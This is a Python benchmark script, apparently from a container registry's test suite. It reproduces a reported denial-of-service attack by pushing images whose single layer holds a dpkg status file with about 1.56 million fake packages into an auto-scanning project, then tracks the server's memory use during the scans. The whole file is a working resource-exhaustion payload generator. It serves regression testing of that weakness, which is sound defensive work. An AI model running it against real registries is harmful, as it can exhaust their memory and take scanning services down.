"""A hostile dpkg layer against a running Portcullis: an image whose only layer holds a
Debian status file with ENTRIES packages (1.56 M in the reported attack, an 8.7 MB
gzip layer), pushed COPIES times at once into a project with auto_scan. Samples the
server's RSS until every scan ended, and prints the scans' status and log line.

    python3 bench/scan_bomb.py --base http://127.0.0.1:PORT --auth 'Basic …' --pid PID
"""

import argparse
import gzip
import hashlib
import io
import json
import tarfile
import time
import urllib.request

MIME = "application/vnd.security.vulnerability.report; version=1.1"


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def call(base, auth, method, path, body=None, ctype="application/json"):
    req = urllib.request.Request(base + path, data=body, method=method,
                                 headers={"Authorization": auth, "Content-Type": ctype})
    with urllib.request.urlopen(req, timeout=120) as resp:
        return resp.status, resp.read()


def layer(entries, salt):
    status = "".join(f"Package: p{i}\nStatus: install ok installed\nVersion: 1.{i}\n"
                     f"Architecture: amd64\n\n" for i in range(entries)).encode()
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for name, data in [("var/lib/dpkg/status", status),
                           ("etc/os-release", f"ID=debian\nVERSION_ID=\"12\"\n# {salt}\n".encode())]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), 6)


def push(base, auth, repo, tag, blob_list):
    digests = []
    for data in blob_list:
        d = "sha256:" + hashlib.sha256(data).hexdigest()
        call(base, auth, "POST", f"/v2/{repo}/blobs/uploads/?digest={d}", data,
             "application/octet-stream")
        digests.append((d, len(data)))
    (cd, cs), (ld, ls) = digests
    manifest = json.dumps({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": cs},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": ld, "size": ls}],
    }).encode()
    call(base, auth, "PUT", f"/v2/{repo}/manifests/{tag}", manifest,
         "application/vnd.oci.image.manifest.v1+json")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--base", required=True)
    ap.add_argument("--auth", required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--entries", type=int, default=1_560_000)
    ap.add_argument("--copies", type=int, default=2)
    a = ap.parse_args()
    call(a.base, a.auth, "POST", "/api/v2.0/projects",
         json.dumps({"project_name": "bomb", "metadata": {"auto_scan": "true"}}).encode())
    print(f"idle rss {rss_mib(a.pid):.1f} MiB")
    for n in range(a.copies):
        data = layer(a.entries, n)
        config = json.dumps({"architecture": "amd64", "os": "linux", "n": n,
                             "rootfs": {"type": "layers", "diff_ids": []}}).encode()
        print(f"layer {n}: {len(data) / 1e6:.1f} MB gzip, {a.entries} dpkg entries")
        push(a.base, a.auth, "bomb/app", f"v{n}", [config, data])
    peak, deadline, done = rss_mib(a.pid), time.monotonic() + 600, {}
    while len(done) < a.copies and time.monotonic() < deadline:
        peak = max(peak, rss_mib(a.pid))
        for n in range(a.copies):
            _, body = call(a.base, a.auth, "GET",
                           f"/api/v2.0/projects/bomb/repositories/app/artifacts/v{n}?with_scan_overview=true")
            ov = json.loads(body).get("scan_overview", {}).get(MIME) or {}
            if ov.get("scan_status") in ("Error", "Success", "Stopped"):
                done[n] = ov
        time.sleep(0.2)
    for n, ov in sorted(done.items()):
        print(f"v{n}: {ov.get('scan_status')}")
        try:
            _, log = call(a.base, a.auth, "GET",
                          f"/api/v2.0/projects/bomb/repositories/app/artifacts/v{n}/scan/{ov['report_id']}/log")
            print("   log:", log.decode(errors="replace").strip().splitlines()[-1][:200])
        except Exception as e:  # the log is a nicety here
            print("   log unavailable:", e)
    print(f"peak rss while scanning {peak:.1f} MiB; after {rss_mib(a.pid):.1f} MiB")
    return 0 if len(done) == a.copies else 1


if __name__ == "__main__":
    raise SystemExit(main())
